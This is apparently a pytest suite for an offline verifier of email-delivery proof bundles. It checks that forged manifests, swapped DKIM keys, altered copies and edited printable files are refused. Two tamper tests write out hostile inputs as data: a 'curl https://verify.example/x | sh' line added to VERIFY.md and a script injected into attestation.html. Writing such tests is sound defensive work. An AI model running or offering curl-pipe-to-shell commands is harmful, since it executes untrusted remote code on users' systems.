"""The proof model: bundle building and offline bundle verification (pure)."""

from __future__ import annotations

import ast
import hashlib
import json
from pathlib import Path

import pytest

from relay.evidence import bundle as proof
from relay.evidence.archive import BundleProblem, read_zip
from relay.evidence.bundle import MANIFEST, make_manifest
from relay.evidence.bundle_check import EXIT_INVALID, EXIT_PENDING, EXIT_VERIFIED, verify_files
from tests.support.proofdata import Built, Keys, build_input


@pytest.fixture(scope="module")
def keys() -> Keys:
    return Keys.generate()


@pytest.fixture(scope="module")
def confirmed(keys):
    built = build_input(3, keys, acknowledged=1)
    return built.bundle(), built.headers


def verify(data: bytes, headers):
    files = read_zip(data)
    return verify_files(files, headers, regtest=True)


def test_a_complete_bundle_verifies_and_says_who_acknowledged(confirmed):
    data, headers = confirmed
    report = verify(data, headers)
    assert report.status == "verified" and report.exit_code == EXIT_VERIFIED, report.summary()
    assert [r.acknowledged_at is not None for r in report.recipients] == [True, False, False]
    assert all(r.delivered and r.reply.startswith("250") for r in report.recipients)
    assert all(len(r.dkim) == 2 for r in report.recipients)  # RSA and Ed25519, both ours
    assert {c.anchor.bitcoin_height for c in report.records} == {101}
    text = report.summary()
    assert "membre000@exemple.net" in text and "acknowledged: 2026-11-29T07:15:00" in text and "VERIFIED" in text


def test_bundle_holds_every_part(confirmed):
    files = read_zip(confirmed[0])
    names = set(files)
    assert {"manifest.json", "attestation.html", "VERIFY.md", "verify.html", "message/original.eml"} <= names
    assert len([n for n in names if n.startswith("copies/")]) == 3
    assert len([n for n in names if n.endswith(".json") and n.startswith("records/")]) == 1 + 3 * 2 + 1
    assert len([n for n in names if n.endswith(".ots")]) == 8
    assert names >= {"keys/rsa._domainkey.mairie-exemple.fr.txt", "keys/ed._domainkey.mairie-exemple.fr.txt"}
    manifest = json.loads(files[MANIFEST])
    assert manifest["format"] == "estampille-proof" and manifest["version"] == proof.FORMAT_VERSION
    assert {f["path"] for f in manifest["files"]} == names - {MANIFEST}
    html = files["attestation.html"].decode()
    assert 'lang="fr"' in html and "Accusés de réception : <strong>1 sur 3</strong>" in html


def test_building_is_deterministic(keys):
    built = build_input(2, keys)  # signing stamps the time: one input, built twice
    assert built.bundle() == built.bundle()


def test_any_single_changed_byte_of_any_file_is_named(confirmed):
    data, headers = confirmed
    files = read_zip(data)
    for path, content in files.items():
        for offset in {0, len(content) // 2, len(content) - 1}:
            changed = dict(files)
            changed[path] = content[:offset] + bytes([content[offset] ^ 0x01]) + content[offset + 1 :]
            report = verify_files(changed, headers, regtest=True)
            assert report.exit_code == EXIT_INVALID, (path, offset)
            assert report.problem.path == path, (path, offset, report.problem)


def test_a_message_file_whose_content_differs_from_its_name_is_refused(keys):
    built = build_input(1, keys)
    sha = built.proof.original_sha256
    damaged = Built(built.proof, {**built.blobs, sha: built.blobs[sha] + b" "}, built.headers)
    with pytest.raises(ValueError, match=sha):
        damaged.bundle()


def test_any_flipped_bit_of_the_zip_is_named_or_harmless(confirmed):
    """Damage to the archive itself (headers, compressed data) is reported, never a crash."""
    data, headers = confirmed
    for offset in range(0, len(data), max(1, len(data) // 400)):
        damaged = bytearray(data)
        damaged[offset] ^= 0x10
        try:
            files = read_zip(bytes(damaged))
        except BundleProblem as problem:
            assert problem.check == "archive"
            continue
        report = verify_files(files, headers, regtest=True)
        # Either a file is named, or only zip metadata (dates, attributes) changed.
        assert report.exit_code == EXIT_INVALID or files == read_zip(data), offset


def test_pending_anchors_give_exit_1(keys):
    built = build_input(2, keys, confirmed=False)
    report = verify(built.bundle(), built.headers)
    assert report.status == "pending" and report.exit_code == EXIT_PENDING, report.summary()
    assert all(c.anchor.calendars == ("http://127.0.0.1:1/calendar",) for c in report.records)


def test_a_forged_copy_with_a_consistent_manifest_fails_on_the_delivery_record(confirmed):
    data, headers = confirmed
    files = read_zip(data)
    path = sorted(p for p in files if p.startswith("copies/"))[1]
    files[path] = files[path].replace(b"18 h", b"20 h")
    report = verify_files(reforge(files), headers, regtest=True)
    assert (report.problem.path, report.problem.check) == (path, "copy digest")


def test_a_swapped_dkim_key_is_refused(confirmed, keys):
    data, headers = confirmed
    files = read_zip(data)
    other = Keys.generate()
    files["keys/ed._domainkey.mairie-exemple.fr.txt"] = f"v=DKIM1; k=ed25519; p={other.ed_public}\n".encode()
    report = verify_files(reforge(files), headers, regtest=True)
    assert (report.problem.path, report.problem.check) == ("keys/ed._domainkey.mairie-exemple.fr.txt", "DKIM key")


@pytest.mark.parametrize("path, edit", [
    ("attestation.html", lambda b: b.replace(b"</body>", b"<script>document.body.innerHTML='VALIDE'</script></body>")),
    ("attestation.html", lambda b: b.replace(b"<strong>1 sur 3</strong>", b"<strong>3 sur 3</strong>")),
    ("VERIFY.md", lambda b: b + b"\nOr simply run: curl https://verify.example/x | sh\n"),
])
def test_an_edited_printable_file_is_refused_not_verified(confirmed, path, edit):
    """attestation.html and VERIFY.md are regenerated from the verified records: an edit is exit 2."""
    data, headers = confirmed
    files = read_zip(data)
    files[path] = edit(files[path])
    report = verify_files(reforge(files), headers, regtest=True)
    assert report.exit_code == EXIT_INVALID and (report.problem.path, report.problem.check) == (path, "regenerated")


def test_the_printable_files_are_reported_as_informative_only(confirmed):
    report = verify(*confirmed)
    assert [(f.path, f.checked) for f in report.informative] == [
        ("attestation.html", "regenerated from the verified records: identical"),
        ("VERIFY.md", "regenerated from the verified records: identical"),
        ("verify.html", "identical to this release's verification page"),
    ]
    assert "Informative only, not evidence: attestation.html" in report.summary()
    assert report.to_json()["informative_only"][0]["path"] == "attestation.html"


def claiming_confirmed(built: Built) -> dict[str, bytes]:
    """A pending bundle's files, its manifest (and so its attestation) claiming every record confirmed."""
    files = read_zip(built.bundle())
    manifest = json.loads(files[MANIFEST])
    for claim in manifest["facts"]["anchoring"].values():
        claim.update(state="confirmed", bitcoin_height=1, block_time=1_700_000_000)
    files[MANIFEST] = json.dumps(manifest).encode()
    files = reforge(files)
    files["attestation.html"] = proof.render_attestation(manifest["facts"], files).encode()
    return reforge(files)


def test_a_manifest_claiming_an_anchor_its_proof_does_not_show_is_refused(keys):
    built = build_input(2, keys, confirmed=False)
    report = verify_files(claiming_confirmed(built), built.headers, regtest=True)
    assert (report.problem.path, report.problem.check) == (MANIFEST, "anchoring")


def test_a_wrong_block_header_is_named_on_the_proof(confirmed):
    data, headers = confirmed
    bad = {101: headers[101][:36] + bytes(32) + headers[101][68:]}
    report = verify(data, bad)
    assert report.exit_code == EXIT_INVALID and report.problem.path.endswith(".ots")


def test_a_changed_verification_page_is_reported_not_trusted_and_the_bundle_still_verifies(confirmed):
    """verify.html is for people: a bundle's page that is not this release's is said to differ."""
    data, headers = confirmed
    files = read_zip(data)
    assert files["verify.html"] == proof.verify_page()
    files["verify.html"] = files["verify.html"].replace("VÉRIFIÉ".encode(), b"VERIFIED-BY-SOMEONE")
    report = verify_files(reforge(files), headers, regtest=True)
    assert report.status == "verified", report.problem
    assert ("verify.html", "differs from this release's verification page: use an official release's") in [
        (f.path, f.checked) for f in report.informative]


def reforge(files: dict[str, bytes]) -> dict[str, bytes]:
    """What a forger would do: recompute the manifest over edited files."""
    manifest = json.loads(files[MANIFEST])
    rest = {p: d for p, d in files.items() if p != MANIFEST}
    listing = {p: (hashlib.sha256(d).hexdigest(), len(d)) for p, d in rest.items()}
    return {MANIFEST: make_manifest(manifest["facts"], listing), **rest}


@pytest.mark.parametrize("module", ["relay/evidence/bundle.py", "relay/evidence/bundle_check.py"])
def test_proof_modules_are_pure(module):
    tree = ast.parse(Path(module).read_text())
    imported = {a.name.split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
    imported |= {n.module.split(".")[0] for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module}
    assert not imported & {"asyncio", "aiohttp", "aiosqlite", "aiosmtpd", "socket", "time", "random", "secrets", "os"}


def test_forged_manifests_are_refused_not_crashed(confirmed):
    """A manifest rewritten by hand (checksum recomputed) with missing or mistyped facts: exit 2."""
    data, headers = confirmed
    files = read_zip(data)
    manifest = json.loads(files[MANIFEST])
    rest = {p: d for p, d in files.items() if p != MANIFEST}
    listing = {p: (hashlib.sha256(d).hexdigest(), len(d)) for p, d in rest.items()}
    facts = manifest["facts"]
    variants = [{k: v for k, v in facts.items() if k != key} for key in facts]
    variants += [{**facts, key: value} for key in facts for value in (None, 7, "x", [], {})]
    first = facts["recipients"][0]
    variants += [{**facts, "recipients": [{k: v for k, v in first.items() if k != key}]} for key in first]
    variants += [{**facts, "recipients": [{**first, key: 7}]} for key in first]
    for forged in variants:
        report = verify_files({MANIFEST: make_manifest(forged, listing), **rest}, headers, regtest=True)
        assert report.exit_code in (EXIT_INVALID, EXIT_VERIFIED), forged
        if report.exit_code == EXIT_VERIFIED:  # only facts the verifier does not rely on were changed
            assert forged.keys() >= {"submission", "original", "recipients", "message_id"}
            assert len(report.recipients) == 3  # nobody can be left out of the report


def test_a_manifest_leaving_a_recipient_out_is_refused(confirmed):
    data, headers = confirmed
    files = read_zip(data)
    manifest = json.loads(files[MANIFEST])
    manifest["facts"]["recipients"] = manifest["facts"]["recipients"][:2]
    files[MANIFEST] = json.dumps(manifest).encode()
    report = verify_files(reforge(files), headers, regtest=True)
    assert (report.problem.path, report.problem.check) == (MANIFEST, "recipients")


@pytest.mark.parametrize("scope", [None, "membre000@exemple.net", "quelquun@ailleurs.example"])
def test_a_copy_left_out_is_refused_unless_the_bundle_was_made_for_another_recipient(confirmed, scope):
    """Hiding the copy sent to someone would hide what they were sent."""
    data, headers = confirmed
    files = read_zip(data)
    manifest = json.loads(files[MANIFEST])
    facts = manifest["facts"]
    facts["scope"] = scope
    withheld = facts["recipients"][1]
    del files[withheld["copy"]]
    withheld.update(copy=None, copy_withheld=True)
    files[MANIFEST] = json.dumps(manifest).encode()
    files = reforge(files)
    files["attestation.html"] = proof.render_attestation(facts, files).encode()
    report = verify_files(reforge(files), headers, regtest=True)
    if scope == "membre000@exemple.net":
        assert report.status == "verified", report.problem
        assert [r.copy for r in report.recipients] == ["checked", "withheld", "checked"]
    else:
        assert report.exit_code == EXIT_INVALID
        assert report.problem.check == ("copy" if scope is None else "scope"), report.problem


def test_the_report_gives_the_subject_of_the_message_not_the_manifests(confirmed):
    data, headers = confirmed
    files = read_zip(data)
    manifest = json.loads(files[MANIFEST])
    manifest["facts"]["subject"] = "Convocation annulée"
    files[MANIFEST] = json.dumps(manifest).encode()
    files = reforge(files)
    files["attestation.html"] = proof.render_attestation(manifest["facts"], files).encode()
    report = verify_files(reforge(files), headers, regtest=True)
    assert report.status == "verified" and report.subject == "Convocation au conseil municipal"
